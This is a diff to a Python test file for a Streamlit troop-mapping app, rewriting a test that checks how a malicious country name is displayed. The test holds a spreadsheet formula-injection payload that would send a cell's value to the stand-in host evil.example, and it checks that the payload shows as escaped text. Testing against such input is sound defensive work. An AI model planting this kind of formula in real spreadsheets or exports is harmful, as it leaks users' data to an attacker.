@@ -23,6 +23,7 @@ import zipfile
 from pathlib import Path
 from typing import TYPE_CHECKING
 
+import markupsafe
 import pytest
 from streamlit.testing.v1 import AppTest
 
@@ -454,7 +455,7 @@ def test_a_sweep_while_another_session_unpacks_never_fails(tmp_path):
     assert errors == []
 
 
-def test_a_formula_in_a_country_name_reaches_the_troop_table_neutralised(tmp_path, monkeypatch):
+def test_a_formula_in_a_country_name_reaches_the_troop_table_as_text(tmp_path, monkeypatch):
     folder = with_boundaries(record_folder(tmp_path), countries="countries.geojson")
     bundled = geodata.bundled_record_path().parent / "boundaries" / "countries.geojson"
     payload = '=HYPERLINK("http://evil.example/?x="&A1,"Russia")'
@@ -466,9 +467,11 @@ def test_a_formula_in_a_country_name_reaches_the_troop_table_neutralised(tmp_pat
     app.query_params["date"] = "2022-01-10"
     app.run()
     assert not app.exception
-    countries = list(app.dataframe[0].value["Country"])
-    assert "'" + payload in countries
-    assert not any(name.startswith(("=", "+", "-", "@")) for name in countries)
+    (table,) = (
+        h.proto.body for h in app.get("html") if '<section class="kz-troop-table"' in h.proto.body
+    )
+    assert str(markupsafe.escape(payload)) in table  # shown as the text it is
+    assert "evil.example" not in table.replace(str(markupsafe.escape(payload)), "")
 
 
 # --- through the page: AppTest uploads ----------------------------------------------------------
